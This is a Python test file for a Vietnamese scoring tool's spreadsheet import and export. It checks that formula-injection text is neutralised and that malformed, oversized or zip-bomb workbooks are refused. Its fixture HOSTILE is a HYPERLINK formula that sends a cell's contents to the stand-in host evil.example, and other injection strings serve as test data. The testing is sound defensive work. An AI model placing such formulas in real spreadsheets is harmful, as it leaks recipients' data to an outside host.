"""Spreadsheets as offices use them, and as attackers send them (issues 14 and 15)."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import attrs
import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from spreadsheets import with_cell_xml, without_part
from thidua import NumberConvention, scheme_from_table_csv, scheme_from_table_xlsx
from thidua.cli._score import results_csv, results_xlsx
from thidua.errors import SpreadsheetError
from thidua.examples import cluster1_scoring
from thidua.exchange._cells import XlsxLimits, csv_rows, neutralise, read_xlsx, unneutralise
from thidua.exchange._sheets import sheet_from_csv, sheet_from_xlsx, sheet_to_csv, sheet_to_xlsx
from thidua.scoring import (
    Assessment,
    Layer,
    PointsInput,
    Results,
    ScoringSheet,
    SheetUnit,
    YesNoInput,
    score_all,
)
from thidua.serialization.stream import ResultRecord, write_csv

VI = NumberConvention.VIETNAMESE
INTL = NumberConvention.INTERNATIONAL
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _hostile_sheet() -> ScoringSheet:
    return ScoringSheet(
        year=2020,
        scheme="S",
        units=(SheetUnit(code="HN", name=HOSTILE),),
        assessments=(
            Assessment(
                unit="HN",
                item="A1",
                layer=Layer.SELF,
                input=PointsInput(points=Decimal("8.5")),
                comment="=1+1",
                assessor="@SUM(A1:A9)",
                evidence=("-2+3", "+cmd", "'=quoted"),
            ),
            Assessment(
                unit="HN",
                item="A2",
                layer=Layer.SELF,
                input=YesNoInput(met=False),
                comment="-1 thiếu sót",
            ),
        ),
    )


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("'Hà Nội'", "''Hà Nội'"),
        ("Sở Hà Nội", "Sở Hà Nội"),
        ("", ""),
    ],
)
def test_risky_text_is_neutralised_and_read_back(text: str, written: str) -> None:
    """OWASP: a quote before = + - @ tab CR (and before a quote); reading drops one."""
    assert neutralise(text) == written
    assert unneutralise(written) == text


def test_a_csv_sheet_holds_no_formula_and_reads_back_the_same_text() -> None:
    """A unit named as a HYPERLINK formula is written behind a quote and read back as is."""
    sheet = _hostile_sheet()
    text = sheet_to_csv(sheet, VI)
    assert "'=HYPERLINK(" in text
    assert ",'=1+1," in text
    assert "'@SUM(A1:A9)" in text
    assert text.splitlines()[1].endswith(",'-2+3;+cmd;'=quoted")  # one quote for the cell
    assert sheet_from_csv(text, year=2020, scheme="S", convention=VI) == sheet


def test_an_xlsx_written_by_thidua_never_holds_a_formula() -> None:
    """Every cell is a text cell: no <f> element, and the names come back unchanged."""
    sheet = _hostile_sheet()
    data = sheet_to_xlsx(sheet, VI)
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    page = openpyxl.load_workbook(io.BytesIO(data)).active
    assert isinstance(page, Worksheet)
    assert "f" not in {c.data_type for row in page.iter_rows() for c in row}
    assert page["B2"].value == HOSTILE
    assert page.freeze_panes == "A2"
    assert sheet_from_xlsx(data, year=2020, scheme="S", convention=VI) == sheet


def test_a_formula_cell_is_never_read_as_data() -> None:
    """A workbook cell holding a formula is refused, naming the cell, not read as its value."""
    book = openpyxl.Workbook()
    page = book.active
    assert isinstance(page, Worksheet)
    page.append(["STT", "Nội dung", "Điểm chuẩn"])
    page.append(["1", "Tiêu chí", "=5+5"])
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(SpreadsheetError) as caught:
        scheme_from_table_xlsx(
            out.getvalue(), code="S", label="S", convention=VI, first_year=2020, scale=Decimal(10)
        )
    problem = caught.value.problems[0]
    assert (problem.row, problem.letter, problem.column, problem.code) == (
        2,
        "C",
        "Điểm chuẩn",
        "formula-cell",
    )


def _workbook() -> bytes:
    book = openpyxl.Workbook()
    page = book.active
    assert isinstance(page, Worksheet)
    page.append(["STT", "Nội dung", "Điểm chuẩn"])
    page.append(["1", "Tiêu chí một", 7.25])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _read(data: bytes, limits: XlsxLimits | None = None) -> list[tuple[int, str, str]]:
    """The problems of reading *data*: (row, letter, code); [] when it reads."""
    try:
        if limits is None:
            read = read_xlsx(data, convention=VI)
        else:
            read = read_xlsx(data, convention=VI, limits=limits)
    except SpreadsheetError as exc:
        return [(p.row, p.letter, p.code) for p in exc.problems]
    return [(p.row, p.letter, p.code) for p in read.problems]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (b"<v>1E999</v>", [(2, "C", "invalid-cell")]),
        (b"<v>-1e400</v>", [(2, "C", "invalid-cell")]),
        (b"<v>inf</v>", [(0, "", "unreadable-file")]),
        (b"<v>nan</v>", [(0, "", "unreadable-file")]),
        (b"<v>" + b"9" * 5000 + b"</v>", [(0, "", "unreadable-file")]),
        (b"<v>12345678901234567</v>", [(2, "C", "too-precise")]),
        (b"<v>0.30000000000000004</v>", [(2, "C", "too-precise")]),
        (b"<v>7.25</v>", []),
        (b"<v>2.5</v>", []),
    ],
)
def test_hostile_numeric_cells_give_a_coded_error(
    value: bytes, expected: list[tuple[int, str, str]]
) -> None:
    """1E999, inf, NaN, a 5000-digit integer: a SpreadsheetError with its code, nothing else."""
    assert _read(with_cell_xml(_workbook(), b"<v>7.25</v>", value)) == expected


def test_a_typed_number_reads_as_the_decimal_excel_shows() -> None:
    """2.5 and 7.25 typed as numbers are exact; no binary-number refusal."""
    data = with_cell_xml(_workbook(), b"<v>7.25</v>", b"<v>2.5</v>")
    assert read_xlsx(data, convention=VI).rows[1] == ["1", "Tiêu chí một", "2,5"]
    assert read_xlsx(_workbook(), convention=INTL).rows[1] == ["1", "Tiêu chí một", "7.25"]


@pytest.mark.parametrize(
    "part",
    [
        "xl/workbook.xml",
        "[Content_Types].xml",
        "xl/_rels/workbook.xml.rels",
        "xl/worksheets/sheet1.xml",
    ],
)
def test_a_workbook_missing_a_part_is_unreadable(part: str) -> None:
    """A missing part is ``unreadable-file``, never a KeyError."""
    assert _read(without_part(_workbook(), part)) == [(0, "", "unreadable-file")]


@pytest.mark.parametrize("cut", [0, 30, 1000, -1])
def test_a_truncated_or_foreign_file_is_unreadable(cut: int) -> None:
    """Truncated archives and bytes that are no archive at all."""
    assert _read(_workbook()[:cut]) == [(0, "", "unreadable-file")]
    assert _read(b"PK\x03\x04" + b"\x00" * 40) == [(0, "", "unreadable-file")]


def test_archives_are_bounded_before_they_are_expanded() -> None:
    """Total size, parts, declared dimension, rows, columns and text length are bounded."""
    data = _workbook()
    assert _read(data, XlsxLimits(max_uncompressed=1000)) == [(0, "", "too-large")]
    assert _read(data, XlsxLimits(max_parts=3)) == [(0, "", "too-large")]
    assert _read(data, XlsxLimits(max_rows=1)) == [(0, "", "too-large")]
    assert _read(data, XlsxLimits(max_columns=2)) == [(0, "", "too-large")]
    assert _read(data, XlsxLimits(max_text=10)) == [(2, "B", "too-long")]
    vast = with_cell_xml(data, b'<dimension ref="A1:C2"/>', b'<dimension ref="A1:XFD1048576"/>')
    assert _read(vast) == [(0, "", "too-large")]
    with pytest.raises(SpreadsheetError) as caught:
        read_xlsx(vast, convention=VI)
    assert str(caught.value) == (
        "workbook!0: the worksheet declares 1048576 rows and 16384 columns,"
        " more than 100000 rows or 200 columns"
    )


def test_a_zip_bomb_is_refused_by_its_declared_size() -> None:
    """A 200 MB part of zeros compresses to 200 kB; it is refused before it is expanded."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * (200 * 1024 * 1024))
    assert len(out.getvalue()) < 1024 * 1024
    assert _read(out.getvalue()) == [(0, "", "too-large")]


TABLE_SEMICOLON = (
    "\ufeffSTT;Nội dung;Điểm chuẩn\r\n1;Ban hành kế hoạch;9,98\r\n2;Phát động;90,02\r\n"
    ";Tổng cộng;100\r\n"
)


def test_table_csv_with_bom_semicolons_and_a_decimal_comma() -> None:
    """Excel's "CSV UTF-8" in a Vietnamese locale: BOM, ';' and '9,98' all read."""
    scheme = scheme_from_table_csv(
        TABLE_SEMICOLON, code="S", label="S", convention=VI, first_year=2020, scale=Decimal(100)
    )
    assert [(c.code, c.max_points) for c in scheme.leaves()] == [
        ("1", Decimal("9.98")),
        ("2", Decimal("90.02")),
    ]
    declared = scheme_from_table_csv(
        TABLE_SEMICOLON.replace(";", ","),
        code="S",
        label="S",
        convention=INTL,
        first_year=2020,
        scale=Decimal(100),
        delimiter=",",
    )
    assert declared.code == "S"


def test_score_sheet_csv_with_bom_and_semicolons_round_trips() -> None:
    """``excel=True`` writes a BOM, CRLF and ';' beside the decimal comma; both read back."""
    sheet = _hostile_sheet()
    text = sheet_to_csv(sheet, VI, excel=True)
    assert text.startswith("\ufeffunit;unit_name;item;layer;input;")
    assert "\r\n" in text
    assert ";8,5;" in text
    assert sheet_from_csv(text, year=2020, scheme="S", convention=VI) == sheet
    assert sheet_from_csv(text, year=2020, scheme="S", convention=VI, delimiter=";") == sheet
    plain = sheet_to_csv(sheet, INTL, excel=True)
    assert plain.startswith("\ufeffunit,unit_name,")
    assert (
        sheet_from_csv("\ufeff" + sheet_to_csv(sheet, VI), year=2020, scheme="S", convention=VI)
        == sheet
    )


def test_a_declared_separator_other_than_comma_or_semicolon_is_refused() -> None:
    """Only ',' and ';' are separators."""
    with pytest.raises(ValueError, match="the separator must be ',' or ';'"):
        list(csv_rows("a|b", "|"))


@pytest.mark.parametrize("depth", [7, 50, 5000])
def test_deeply_nested_numbering_is_refused_without_recursion(depth: int) -> None:
    """1.1.1... deeper than six levels is ``too-deep`` (5000 levels used to overflow the stack)."""
    rows = ["STT,Nội dung,Điểm chuẩn"]
    rows += [f"{'.'.join(['1'] * level)},Mục {level},1" for level in range(1, depth + 1)]
    with pytest.raises(SpreadsheetError) as caught:
        scheme_from_table_csv(
            "\n".join(rows), code="S", label="S", convention=VI, first_year=2020, scale=Decimal(1)
        )
    first = caught.value.problems[0]
    assert (first.row, first.column, first.code) == (8, "STT", "too-deep")
    assert first.message == "'1.1.1.1.1.1.1' is nested 7 levels deep, more than 6"


def test_an_export_for_reading_has_numbers_and_a_totals_row() -> None:
    """Numeric cells and a "Tổng cộng" row of sums (values, no formula); it reads back."""
    sheet = _hostile_sheet()
    data = sheet_to_xlsx(sheet, VI, reading=True)
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    page = openpyxl.load_workbook(io.BytesIO(data)).active
    assert isinstance(page, Worksheet)
    header = [cell.value for cell in page[1]]
    points = header.index("points") + 1
    assert (page.cell(2, points).value, page.cell(2, points).data_type) == (8.5, "n")
    assert [page.cell(4, 2).value, page.cell(4, points).value] == ["Tổng cộng", 8.5]
    assert page["B2"].value == HOSTILE
    assert sheet_from_xlsx(data, year=2020, scheme="S", convention=VI) == sheet


def _hostile_results() -> Results:
    """The shipped scoring's results, with a unit name and a class a spreadsheet would run."""
    results = score_all(cluster1_scoring())
    year = results.years[-1]
    first = attrs.evolve(year.units[0], name=HOSTILE, classification="+Xuất sắc")
    return attrs.evolve(
        results, years=(*results.years[:-1], attrs.evolve(year, units=(first, *year.units[1:])))
    )


def test_results_csv_neutralises_formula_cells() -> None:
    """`score --format csv`: risky text behind a quote, numbers left as numbers."""
    results = _hostile_results()
    text = results_csv(results, VI).decode()
    assert text.startswith("\ufeffNăm,Mã đơn vị,Đơn vị,")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    hostile = next(row for row in rows if row[2].endswith('Bấm vào đây")'))
    assert hostile[2] == "'" + HOSTILE
    assert hostile[-1] == "'+Xuất sắc"
    assert [cell for row in rows[1:] for cell in row if cell.startswith(("=", "+", "-", "@"))] == []
    # the importers' reader gives the text back as written
    read = list(csv_rows(text))
    assert read[rows.index(hostile)][2] == HOSTILE
    # numbers are still numbers, in the Vietnamese form
    unit = results.years[-1].units[0]
    assert hostile[rows[0].index("Tổng điểm")] == format(unit.total, "f").replace(".", ",")


def test_results_xlsx_writes_text_cells_never_formulas() -> None:
    """`score --format xlsx`: a name starting with "=" is a text cell holding that text."""
    book = openpyxl.load_workbook(io.BytesIO(results_xlsx(_hostile_results())))
    page = book.active
    assert isinstance(page, Worksheet)
    names = [cell for cell in page["C"] if cell.value == HOSTILE]
    assert len(names) == 1
    assert names[0].data_type == "s"
    assert all(cell.data_type != "f" for row in page.iter_rows() for cell in row)


def test_stream_csv_neutralises_formula_cells() -> None:
    """The stream's CSV export: a name, band or class a spreadsheet would run, behind a quote."""
    results = score_all(cluster1_scoring())
    year = results.years[-1]
    unit = year.units[0]
    record = ResultRecord(
        group="CUM-1",
        year=year.year,
        scheme=year.scheme,
        unit=unit.unit,
        name="-2+3",
        rank=unit.rank,
        tied=unit.tied,
        total=unit.total,
        classification="@SUM(A1:A9)",
        band=unit.band,
        base=unit.base,
        bonus_total=unit.bonus_total,
        penalty_total=unit.penalty_total,
        subtotals=unit.subtotals,
    )
    out = io.StringIO(newline="")
    assert write_csv([record], out) == 1
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert row[header.index("name")] == "'-2+3"
    assert row[header.index("classification")] == "'@SUM(A1:A9)"
    assert row[header.index("unit")] == unit.unit
    assert row[header.index("total")] == format(unit.total, "f")
